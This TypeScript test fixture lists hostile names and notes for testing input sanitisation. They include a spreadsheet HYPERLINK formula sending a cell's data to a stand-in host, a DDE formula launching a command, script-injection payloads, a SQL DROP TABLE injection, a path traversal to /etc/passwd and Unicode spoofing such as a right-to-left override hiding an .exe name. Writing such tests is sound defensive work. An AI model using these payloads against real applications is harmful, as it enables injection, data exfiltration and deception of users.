/**
 * Names and notes that somewhere, once, became a formula, markup, code, a statement or a mess.
 * `kept` is what the records keep of them; what is not named is kept as typed.
 */
interface HostileText {
  readonly what: string;
  readonly typed: string;
  readonly kept?: string;
}

const long = (piece: string): string => piece.repeat(200).slice(0, 200);

export const HOSTILE_NAMES: readonly HostileText[] = [
  { what: 'a spreadsheet formula', typed: '=HYPERLINK("https://trotwell.example/?"&A1,"x")' },
  { what: 'a formula that begins with a sign', typed: "+1+cmd|' /C calc'!A0" },
  { what: 'another sign', typed: '-2+3' },
  { what: 'a formula by an at sign', typed: '@SUM(1+1)*cmd' },
  { what: 'an image that runs a script', typed: '<img src=x onerror="window.hostile=1">' },
  { what: 'a script', typed: '</script><script>window.hostile=1</script>' },
  { what: 'a drawing that runs a script', typed: '<svg/onload=window.hostile=1>' },
  { what: 'the braces of a template', typed: '{{constructor.constructor("window.hostile=1")()}}' },
  { what: 'an address that runs', typed: 'javascript:window.hostile=1' },
  { what: 'a statement', typed: "Robert'); DROP TABLE dog;--" },
  { what: 'a pattern', typed: '%_*?[a-z]"\\' },
  { what: 'the name of a property', typed: '__proto__' },
  { what: 'a path', typed: '../../../../etc/passwd' },
  { what: 'a format', typed: '%s%s%n ${7*7} #{7*7}' },
  { what: 'an override that turns text round', typed: 'abc\u202egnp.exe', kept: 'abcgnp.exe' },
  { what: 'an isolate that is never closed', typed: 'Rex\u2067 Hund', kept: 'Rex Hund' },
  { what: 'a right-to-left name with its mark', typed: '\u05d1\u05d5\u05d1\u05d9\u200f' },
  { what: 'characters of no width', typed: 'B\u200be\u200cl\u200dl\u2060a\ufeffh' },
  { what: 'control characters', typed: 'Be\u0000l\u0007l\u001b[31ma', kept: 'Bell[31ma' },
  { what: 'line breaks in a name', typed: 'Bell\r\nBcc: all\u2028x', kept: 'Bell Bcc: all x' },
  { what: 'half a character', typed: 'Bell\ud83d', kept: 'Bell\ufffd' },
  {
    what: 'piled accents',
    typed: `Z${'\u0301\u0323\u0306'.repeat(30)}oe`,
    kept: 'Z\u0301\u0323\u0306\u0301oe',
  },
  { what: 'a family of one character', typed: '\u{1f468}\u200d\u{1f469}\u200d\u{1f467} Bell' },
  { what: 'a long name without a break', typed: long('Bellabarbarossa') },
  { what: 'a long name of wide letters', typed: long('W') },
];

/** What cannot be seen is no name. */
export const INVISIBLE_NAMES = [
  '\u200b',
  '\u200f\u2060',
  '\u202e',
  '\u3164\u0301'.slice(1),
  '\u0000',
];

/** 10 000 characters: lines, one long word, markup and a formula on every tenth line. */
export const LONG_NOTES = Array.from({ length: 400 }, (_, i) =>
  i % 10 === 0 ? `=1+${i} <b>note ${i}</b>` : `Line ${i} of the long notes.`,
)
  .join('\n')
  .concat(`\n${'unbroken'.repeat(200)}`)
  .padEnd(10_000, '.')
  .slice(0, 10_000);
